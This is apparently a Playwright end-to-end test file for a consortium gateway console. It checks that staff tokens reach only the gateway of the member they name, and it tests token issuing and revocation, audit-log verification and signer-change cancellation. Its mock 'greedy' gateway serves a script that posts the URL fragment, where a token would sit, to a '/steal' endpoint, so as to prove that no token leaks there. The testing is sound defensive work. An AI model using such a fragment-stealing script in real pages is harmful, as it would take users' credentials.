import { createHash, randomBytes } from "node:crypto";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect } from "chai";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { launchBrowser, WAIT } from "../../support/browser.js";
import { JsonRpcProvider, NonceManager, Wallet } from "ethers";
import { ANVIL_DEV_KEY } from "../../../node/chain/anvil.js";
import { connectContracts } from "../../../node/chain/contracts.js";
import { startGateway, type Gateway } from "../../../node/gateway.js";
import { apiClient } from "../../support/api-client.js";
import { ROLE, startConsortium, type TestConsortium } from "../../support/consortium.js";
import { publishDirectory } from "../../support/directory.js";


interface Recorded {
  method: string;
  url: string;
  headers: IncomingMessage["headers"];
  body: string;
}

/**
 * A member's gateway that answers "yes, that token is mine" to every question and records every request: its page
 * posts back whatever fragment it is opened with (a token handed over by another console lands there).
 */
async function greedyGateway(): Promise<{ url: string; requests: Recorded[]; server: Server }> {
  const requests: Recorded[] = [];
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (chunk: Buffer) => (body += chunk.toString("utf8")));
    req.on("end", () => {
      requests.push({ method: req.method ?? "", url: req.url ?? "", headers: req.headers, body });
      res.setHeader("Access-Control-Allow-Origin", "*");
      res.setHeader("Access-Control-Allow-Headers", "*");
      if (req.method === "GET" && req.url === "/") {
        res.setHeader("content-type", "text/html");
        res.end(`<!doctype html><title>x</title><script>fetch("/steal", { method: "POST", body: location.hash });</script>`);
        return;
      }
      res.setHeader("content-type", "application/json");
      res.end(JSON.stringify({ mine: true, memberId: 2, memberName: "丙律所", members: [], self: 2 }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, server };
}

/**
 * The console in a real browser against real gateways on anvil: where a pasted token goes (only to the gateway of
 * the member it names, as the chain-verified directory lists it — a member's gateway that says "mine" to everything
 * receives nothing), and the admin's pages (issue, list, revoke a token; the audit log verified; the directory).
 */
describe("e2e: the console trusts no other gateway with a token; the admin's pages", function () {
  this.timeout(180_000);
  let consortium: TestConsortium;
  let lender: Gateway;
  let agency: Gateway;
  let greedy: Awaited<ReturnType<typeof greedyGateway>>;
  let browser: Browser;

  /** Every request the browser makes, with where it went and everything a token could hide in. */
  function record(context: BrowserContext): Array<{ origin: string; text: string }> {
    const seen: Array<{ origin: string; text: string }> = [];
    context.on("request", (request) => {
      seen.push({ origin: new URL(request.url()).origin, text: `${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ""}` });
    });
    return seen;
  }

  async function paste(page: Page, at: Gateway, token: string): Promise<void> {
    await page.goto(`${at.url}/`);
    await page.fill("#token", token);
    await page.click("#login-form button[type=submit]");
  }

  before(async function () {
    browser = await launchBrowser();
    // The greedy member comes before the honest agency in the directory: a console that asks around asks it first.
    consortium = await startConsortium([
      { name: "甲银行", roles: ROLE.LENDER },
      { name: "丙律所", roles: ROLE.AGENCY },
      { name: "乙催收", roles: ROLE.AGENCY },
    ]);
    const quiet = () => {};
    lender = await startGateway(consortium.member("甲银行").config, { log: quiet });
    agency = await startGateway(consortium.member("乙催收").config, { log: quiet });
    greedy = await greedyGateway();
    await publishDirectory(consortium, {
      甲银行: { name: "甲银行", roles: ["lender"], gatewayUrl: lender.url },
      丙律所: { name: "丙律所", roles: ["agency"], gatewayUrl: greedy.url },
      乙催收: { name: "乙催收", roles: ["agency"], gatewayUrl: agency.url },
    });
  });
  after(async () => {
    await browser?.close();
    await Promise.all([lender?.close(), agency?.close()]);
    greedy?.server.close();
    await consortium?.stop();
  });

  it("sends a pasted token only to the gateway of the member it names; the gateway that says 'mine' to everything receives nothing", async () => {
    const lenderToken = (await lender.tokens.create("lender", "张经理")).token;
    const agencyToken = (await agency.tokens.create("agency", "李专员")).token;
    // A token of the earlier form names no member: it is tried at the console it is pasted into, nowhere else.
    const oldForm = `clt_${randomBytes(32).toString("base64url")}`;
    await agency.store.tokens.put(createHash("sha256").update(oldForm).digest("hex"), {
      id: randomBytes(6).toString("hex"),
      memberId: agency.config.memberId,
      role: "agency",
      name: "旧令牌",
      createdAt: new Date().toISOString(),
    });
    const context = await browser.newContext({ locale: "zh-CN" });
    const seen = record(context);
    const page = await context.newPage();

    await paste(page, lender, lenderToken);
    await page.waitForSelector("nav a[data-tab]", WAIT);
    expect(new URL(page.url()).origin).to.equal(lender.url);

    await page.click("#logout");
    await paste(page, lender, agencyToken);
    await page.waitForURL((url) => url.origin === agency.url, WAIT);
    await page.waitForSelector("nav a[data-tab]", WAIT);
    expect(await page.textContent("#who")).to.include("乙催收");

    await paste(page, lender, oldForm);
    await page.waitForSelector("#login-status .note.error", WAIT);
    expect(new URL(page.url()).origin).to.equal(lender.url);

    // A token in a link follows the same rule: B's token in a link to A's console goes on to B, not to A's gateway;
    // one already handed over once is not passed on again.
    await page.goto("about:blank");
    await page.goto(`${lender.url}/#token=${agencyToken}&handover=1`);
    await page.waitForSelector("#login-status .note.error", WAIT);
    expect(await page.textContent("#login-status")).to.include("令牌未发送");
    await page.goto("about:blank");
    await page.goto(`${lender.url}/#token=${agencyToken}`);
    await page.waitForURL((url) => url.origin === agency.url, WAIT);
    await page.waitForSelector("nav a[data-tab]", WAIT);
    await context.close();

    const secret = (token: string) => token.slice(-43);
    expect(seen.filter((r) => r.text.includes(secret(lenderToken))).map((r) => r.origin)).to.satisfy((o: string[]) => o.length > 0 && o.every((x) => x === lender.url));
    expect(seen.filter((r) => r.text.includes(secret(agencyToken))).map((r) => r.origin)).to.satisfy((o: string[]) => o.length > 0 && o.every((x) => x === agency.url));
    expect(seen.filter((r) => r.text.includes(secret(oldForm))).map((r) => r.origin)).to.satisfy((o: string[]) => o.length > 0 && o.every((x) => x === lender.url));
    expect(seen.filter((r) => r.origin === greedy.url), "the browser never turned to the greedy gateway").to.deep.equal([]);
    expect(greedy.requests, "the greedy gateway heard nothing").to.deep.equal([]);
  });

  it("admin: sees the operator's proposal against the member in both languages and cancels it; issues a token (shown once), sees it listed, revokes it and it no longer works; the audit log is verified; the directory shows agencies' URLs", async () => {
    const admin = (await lender.tokens.create("admin", "管理员")).token;
    const provider = new JsonRpcProvider(consortium.anvil.rpcUrl, undefined, { staticNetwork: true });
    const operator = await connectContracts(consortium.deployment, new NonceManager(new Wallet(ANVIL_DEV_KEY, provider)));
    const rogue = Wallet.createRandom().address;
    await (await operator.memberRegistry.proposeSignerRotation(lender.config.memberId, rogue)).wait();
    const context = await browser.newContext({ locale: "zh-CN" });
    const page = await context.newPage();
    page.on("dialog", (d) => void d.accept());
    await paste(page, lender, admin);
    await page.waitForSelector('nav a[data-tab="tokens"]', WAIT);
    await page.click('nav a[data-tab="tokens"]');
    const banner = page.locator('#pending-change[data-kind="signer"]');
    await banner.waitFor(WAIT);
    expect(await banner.textContent()).to.include("运营方提议").and.to.include("the operator proposed").and.to.include(rogue);
    // While suspended the member still cancels: with this gateway's signing key, or with its offline recovery key.
    expect(await banner.textContent()).to.include("即使本机构已被暂停，仍可撤销").and.to.include("can cancel even while suspended").and.to.include("caseledger member cancel-change");
    await page.click("#pending-change-cancel");
    await page.waitForSelector('#pending-change[data-state="cancelled"]', WAIT);
    expect(Number((await operator.memberRegistry.pendingChangeOf(lender.config.memberId)).executableAt), "cancelled on chain").to.equal(0);
    provider.destroy();

    await page.click('nav a[data-tab="tokens"]');
    await page.waitForSelector("#issue-form", WAIT);
    await page.selectOption("#token-role", "lender");
    await page.fill("#token-name", "测试员");
    await page.fill("#token-ttl", "30");
    await page.click("#issue-token");
    await page.waitForSelector("#new-token", WAIT);
    const issued = await page.inputValue("#new-token");
    expect(issued).to.match(new RegExp(`^clt_${lender.config.memberId}_[A-Za-z0-9_-]{43}$`));
    expect((await apiClient(lender.url, issued).get("/v1/me")).status).to.equal(200);
    const row = page.locator('tr[data-holder="测试员"]');
    await row.locator('[data-state="active"]').waitFor(WAIT);
    expect(await row.textContent()).to.include("贷款机构");

    await row.locator("button[data-revoke]").click();
    await row.locator('[data-state="revoked"]').waitFor(WAIT);
    expect((await apiClient(lender.url, issued).get("/v1/me")).status, "revoked at once").to.equal(401);
    expect(await page.locator('tr[data-holder="测试员"]').count(), "the secret is not shown again").to.equal(1);
    expect(await page.locator("#new-token").count()).to.equal(1);
    await page.reload();
    await page.waitForSelector("#token-list table", WAIT);
    expect(await page.locator("#new-token").count(), "after a reload the secret is gone").to.equal(0);

    await page.click('nav a[data-tab="audit"]');
    await page.waitForSelector('#audit-verify [data-verified="true"]', WAIT);
    expect(await page.textContent("#audit-verify")).to.include("已核验");
    await page.waitForSelector('#audit-rows tr[data-action="DELETE /v1/staff-tokens/:id"]', WAIT);
    await page.selectOption("#audit-action", "DELETE /v1/staff-tokens/:id");
    // The gateway filters (GET /v1/audit?action=): the table is redrawn with that action's entries only.
    await page.waitForFunction(() => {
      const rows = [...(globalThis as any).document.querySelectorAll("#audit-rows tr[data-action]")];
      return rows.length > 0 && rows.every((r: any) => r.getAttribute("data-action") === "DELETE /v1/staff-tokens/:id");
    }, undefined, WAIT);
    const actions = await page.locator("#audit-rows tr[data-action]").evaluateAll((rows) => rows.map((r) => r.getAttribute("data-action")));
    expect(actions).to.have.length.greaterThan(0);
    expect(new Set(actions)).to.deep.equal(new Set(["DELETE /v1/staff-tokens/:id"]));

    await page.click('nav a[data-tab="directory"]');
    const agencyRow = page.locator(`tr[data-member="${agency.config.memberId}"]`);
    await agencyRow.waitFor(WAIT);
    expect(await agencyRow.textContent()).to.include(agency.url);
    expect(await agencyRow.locator('[data-verified="true"]').count()).to.equal(1);
    await page.click("#lang");
    await page.waitForSelector("text=Gateway URL", WAIT);
    await context.close();
  });
});
